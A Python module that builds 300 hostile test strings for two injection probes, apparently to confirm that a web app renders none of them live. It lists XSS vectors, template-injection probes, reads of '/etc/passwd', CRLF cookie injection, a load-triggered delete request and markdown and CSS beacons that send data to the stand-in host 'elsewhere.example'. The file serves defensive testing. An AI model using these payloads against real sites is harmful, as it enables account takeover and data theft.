# ruff: noqa: E501 - one shape, one line
"""The 300 hostile texts of the probes XS1 and XS2: what a browser would run, ask for or load if a page let it.

Every text has its number in it, so that whatever fires can be told. `ELSEWHERE` is a host that must never be asked.
"""

from __future__ import annotations

ELSEWHERE = "elsewhere.example"
COUNT = 300

_ELEMENTS = (
    "<script>{js}</script>", "<script src=//{host}/{n}.js></script>", "<img src=x onerror={js}>",
    "<img src=https://{host}/{n}.png>", "<svg onload={js}>", "<svg/onload={js}>", "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>", "<svg><a xlink:href='javascript:{js}'><text y=20>x</text></a></svg>",
    "<svg><image href=https://{host}/{n}.svg></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload={js}>#x'/></svg>",
    "<svg><set attributeName=onload to={js}>", "<svg><foreignObject><body onload={js}></foreignObject></svg>",
    "<math><mtext><img src=x onerror={js}></mtext></math>", "<math href='javascript:{js}'>x</math>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>", "<iframe src='javascript:{js}'></iframe>",
    "<iframe src=https://{host}/{n}></iframe>", "<object data='javascript:{js}'></object>",
    "<object data=https://{host}/{n}></object>", "<embed src=https://{host}/{n}.swf>", "<embed src='javascript:{js}'>",
    "<video src=x onerror={js}></video>", "<video poster=https://{host}/{n}.png></video>",
    "<video><source onerror={js}></video>", "<audio src=x onerror={js}></audio>", "<audio src=https://{host}/{n}.ogg autoplay>",
    "<body onload={js}>", "<body background=https://{host}/{n}.png>", "<details open ontoggle={js}>x</details>",
    "<input autofocus onfocus={js}>", "<input type=image src=https://{host}/{n}.png>", "<select autofocus onfocus={js}>",
    "<textarea autofocus onfocus={js}>", "<button autofocus onfocus={js}>x</button>", "<keygen autofocus onfocus={js}>",
    "<marquee onstart={js}>x</marquee>", "<a href='javascript:{js}'>x</a>", "<a href=https://{host}/{n} ping=https://{host}/p>x</a>",
    "<form action='javascript:{js}'><button>x</button></form>", "<form action=https://{host}/{n}><input name=a></form>",
    "<button formaction='javascript:{js}'>x</button>", "<isindex type=image src=1 onerror={js}>",
    "<link rel=stylesheet href=https://{host}/{n}.css>", "<link rel=prefetch href=https://{host}/{n}>",
    "<link rel=dns-prefetch href=//{host}>", "<link rel=icon href=https://{host}/{n}.ico>",
    "<base href=https://{host}/>", "<meta http-equiv=refresh content='0;url=https://{host}/{n}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>", "<table background=https://{host}/{n}.png><tr><td>x</table>",
    "<dialog open onclose={js}>x</dialog>", "<frameset onload={js}>", "<p onmouseover={js}>x</p>",
    "<div onpointerover={js} onclick={js}>x</div>", "<custom-element onfocus={js} tabindex=1 autofocus>x",
    "<div contenteditable onfocus={js} autofocus>x</div>", "<template shadowrootmode=open><img src=x onerror={js}></template>",
    "<portal src=https://{host}/{n}></portal>", "<style onload={js}></style>",
)
_BREAKS = (
    '"><script>{js}</script>', "'><script>{js}</script>", '"><img src=x onerror={js}>', "'><img src=x onerror={js}>",
    '" onmouseover={js} x="', "' onmouseover={js} x='", '" autofocus onfocus={js} x="', "' autofocus onfocus={js} x='",
    "` onmouseover={js} `", "x onerror={js} y", "</title><script>{js}</script>", "</textarea><script>{js}</script>",
    "</style><script>{js}</script>", "</script><script>{js}</script>", "</template><script>{js}</script>",
    "</noscript><script>{js}</script>", "</select><img src=x onerror={js}>", "</option></select><svg onload={js}>",
    "</svg><script>{js}</script>", "</math><svg onload={js}>", "--><script>{js}</script>", "--!><script>{js}</script>",
    "]]><script>{js}</script>", "<!--><script>{js}</script>", "</bdi></button><img src=x onerror={js}>",
    '";{js};//', "';{js};//", "`;{js};`", "\\\";{js};//", "${{{js}}}", '"}}];{js};[{{"a":"', "</ScRiPt><sCrIpT>{js}</sCrIpT>",
    "\u2028{js}//", "*/{js}/*", "<![CDATA[<script>{js}</script>]]>", "<?xml version='1.0'?><script>{js}</script>",
)
_ADDRESSES = (
    "javascript:{js}", "JaVaScRiPt:{js}", "java\tscript:{js}", "\x01javascript:{js}", " javascript:{js}",
    "javascript:\u2028{js}", "javascript://%0a{js}", "javascript:/*--></title>*/{js}", "&#106;avascript:{js}",
    "&#x6A;avascript&colon;{js}", "java&Tab;script:{js}", "vbscript:msgbox({n})", "data:text/html,<script>{js}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=={n}", "data:image/svg+xml,<svg onload={js}>",
    "//{host}/{n}", "\\\\{host}\\{n}", "/\\{host}/{n}", "https:{host}/{n}", "https://{host}/{n}?c=secret",
    "blob:https://{host}/{n}", "file:///etc/passwd#{n}", "view-source:javascript:{js}", "jar:https://{host}/{n}!/",
)
_STYLES = (
    "<style>@import 'https://{host}/{n}.css';</style>", "<style>*{{background:url(https://{host}/{n}.png)}}</style>",
    "<style>@font-face{{font-family:x;src:url(https://{host}/{n}.woff)}}*{{font-family:x}}</style>",
    "<p style='background:url(https://{host}/{n}.png)'>x</p>", "<p style='background:url(javascript:{js})'>x</p>",
    "<p style='width:expression({js})'>x</p>", "<p style='-moz-binding:url(https://{host}/{n}#x)'>x</p>",
    "<p style='list-style:url(https://{host}/{n}.png)'>x</p>", "<p style='content:url(https://{host}/{n})'>x</p>",
    "<p style='cursor:url(https://{host}/{n}.cur),auto'>x</p>", "<style>input[value^='a']{{background:url(https://{host}/{n})}}</style>",
    "<p style='position:fixed;inset:0;z-index:99999;background:red'>over everything {n}</p>",
    "<style>main{{display:none}}/*{n}*/</style>", "<link rel=stylesheet href='data:text/css,*{{background:url(https://{host}/{n})}}'>",
    "}}</style><style>@import url(//{host}/{n})", "<p class='shut' id='main' name='cookie'>{n}</p>",
)
_TEMPLATES = (
    "{{{{7*7}}}}{n}", "{{{{ config.items() }}}}{n}", "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}{n}",
    "{{{{constructor.constructor('{js}')()}}}}", "{{% raw %}}{{{{ {n} }}}}{{% endraw %}}", "{{% include '/etc/passwd' %}}{n}",
    "{{# {n} #}}", "${{7*7}}{n}", "#{{7*7}}{n}", "<%= 7*7 %>{n}", "<#assign x=7*7>{n}", "[[${{7*7}}]]{n}", "{{{{= {n} }}}}",
    "%(password)s {n}", "{{0.__class__}} {n}", "{{who.key}} {n}", "<div hx-get=https://{host}/{n} hx-trigger=load>x</div>",
    "<div data-hx-get=https://{host}/{n} data-hx-trigger=load>x</div>", "<div hx-on:load={js} hx-trigger=load>x</div>",
    "<div hx-on::load={js}>x</div>", "<div hx-vals='js:{{a:{js}}}' hx-get=/documents hx-trigger=load>x</div>",
    "<div hx-post=/documents/delete hx-vals='{{\"document\":\"a\"}}' hx-trigger=load>{n}</div>",
    "<div x-data x-init={js}>x</div>", "<div ng-app>{{{{{n}+1}}}}</div>", "<div v-html='{js}'>x</div>",
    "<a data-source='javascript:{js}'>x</a>", "<button data-example='<img src=x onerror={js}>'>x</button>",
)
_MARKDOWN = (
    "![x](https://{host}/{n}.png)", "![x](https://{host}/{n}.png?q=the+secret+recipe)", "![x][r{n}]\n\n[r{n}]: https://{host}/{n}.png",
    "[x](javascript:{js})", "[x](JaVaScRiPt:{js})", "[x](data:text/html,<script>{js}</script>)", "[x](https://{host}/{n})",
    "<https://{host}/{n}>", "<javascript:{js}>", "[x]: javascript:{js} '{n}'", "![x](x\"onerror=\"{js})",
    "![x](javascript:{js})", "[![x](https://{host}/{n}.png)](https://{host})", "`<img src=x onerror={js}>`",
    "```html\n<script>{js}</script>\n```", "| <img src=x onerror={js}> |\n|---|", "> <svg onload={js}>",
    "# <script>{js}</script>", "[1]: https://{host}/{n} \"><img src=x onerror={js}>\"", "[1] [2] [999] <img src=x onerror={js}> [1]",
    "\\<script>{js}</script>", "&lt;script&gt;{js}&lt;/script&gt;", "![x](//{host}/{n}.png =1x1)", "<img src='https://{host}/{n}' width=1>",
)
_LETTERS = (
    "\uff1cscript\uff1e{js}\uff1c/script\uff1e", "\u202e<script>{js}</script>\u2066", "<scr\u200bipt>{js}</scr\u200bipt>",
    "\ufeff<script>{js}</script>", "<script\u3000>{js}</script>", "<ſcript>{js}</ſcript>", "<\u212adiv onclick={js}>x",
    "<img src=x\u00a0onerror={js}>", "<img\x0csrc=x\x0conerror={js}>", "<img\tsrc=x\tonerror={js}>", "<img/src=x/onerror={js}>",
    "%3Cscript%3E{js}%3C/script%3E", "%253Cscript%253E{js}", "\\u003cscript\\u003e{js}\\u003c/script\\u003e", "\\x3cscript\\x3e{js}",
    "&#60;script&#62;{js}&#60;/script&#62;", "&#x3c;img src=x onerror={js}&#x3e;", "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "\u0338<img src=x onerror={js}>", "\U0001f600<svg onload={js}>\U0001f600", "水壶<img src=x onerror={js}>容量", "\u202d\u2067{n}\u2069<b onclick={js}>",
    "<img src=x onerror=\u2028{js}>", "<img src=x onerror=&#97;lert({n})>", "<img src=x onerror=\\u0061lert({n})>",
    "<img src=x onerror=top[`al`+`ert`]({n})>", "<img src=x onerror=[{n}].find(alert)>", "<svg onload=alert`{n}`>",
)
_MUTATIONS = (
    "<noscript><p title='</noscript><img src=x onerror={js}>'>", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={js}&gt;'>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror={js}></style></annotation-xml></math>",
    "<svg></p><style><a id='</style><img src=x onerror={js}>'>", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>",
    "<select><style></select><img src=x onerror={js}></style>", "<xmp><p title='</xmp><img src=x onerror={js}>'>",
    "<listing>&lt;img src=x onerror={js}&gt;</listing>", "<title><img title='</title><img src=x onerror={js}>'>",
    "<textarea><img title='</textarea><svg onload={js}>'>", "<iframe><img title='</iframe><svg onload={js}>'>",
    "<noembed><img title='</noembed><svg onload={js}>'>", "<plaintext><script>{js}</script>", "<comment><img title='</comment><svg onload={js}>'>",
    "<!doctype html><body onload={js}>", "<p><a><p><a><img src=x onerror={js}", "<script>{js}", "<img src=x onerror='{js}",
    "<<script>{js}//<</script>", "<scr<script>ipt>{js}</scr</script>ipt>", "<svg><style>&lt;img src=x onerror={js}&gt;</style></svg>",
    "<svg><title><img src=x onerror={js}></title></svg>", "<svg><desc><svg onload={js}></desc></svg>", "<image src=x onerror={js}>",
    "<b <script>{js}</script>0", "<a href=x onclick={js} <b>x</a>", "<img src='x' 'onerror={js}' onerror={js}>", "<table><td><svg onload={js}></table>",
    "<frameset><frame src='javascript:{js}'></frameset>", "<svg><![CDATA[><img src=x onerror={js}>]]></svg>", "<applet code={n} onerror={js}>",
)
_LINES = (
    "a\r\nSet-Cookie: tunewise_session={n}", "a\r\n\r\n<script>{js}</script>", "a%0d%0aLocation: https://{host}/{n}", "a\0<script>{js}</script>",
    "data: {{\"html\": \"<img src=x onerror={js}>\"}}\n\nevent: reply", "event: reply\ndata: {{\"html\":\"<svg onload={js}>\"}}\n\n",
    "{{\"html\": \"<img src=x onerror={js}>\"}}", "\"}}\n\ndata: [DONE]\n\n<script>{js}</script>", "<a id=desk></a><form id=composer name={n}>",
    "<form name=body><input name=firstElementChild value={n}></form>", "__proto__[innerHTML]=<img src=x onerror={js}>", "constructor.prototype {n} <svg onload={js}>",
)
FAMILIES = {
    "element": _ELEMENTS, "break-out": _BREAKS, "address": _ADDRESSES, "style": _STYLES, "template": _TEMPLATES,
    "markdown": _MARKDOWN, "letters": _LETTERS, "mutation": _MUTATIONS, "line": _LINES,
}


def payloads() -> list[str]:
    """`COUNT` different texts, of every family; where there are not enough shapes, elements once more in other clothes."""
    clothes = (
        lambda text: text.replace("on", "oN").replace("script", "sCrIpT"), lambda text: f'"><b title="{text}',
        lambda text: text.replace(" ", "/", 1), lambda text: f"{text}\u2028{text}",
    )
    shapes = [shape for family in FAMILIES.values() for shape in family]
    shapes += [clothes[i % len(clothes)](shape) for i, shape in enumerate(_ELEMENTS)]
    made = [shape.format(js=f"alert({n})", n=n, host=ELSEWHERE) for n, shape in enumerate(shapes[:COUNT])]
    assert len(set(made)) == COUNT
    return made
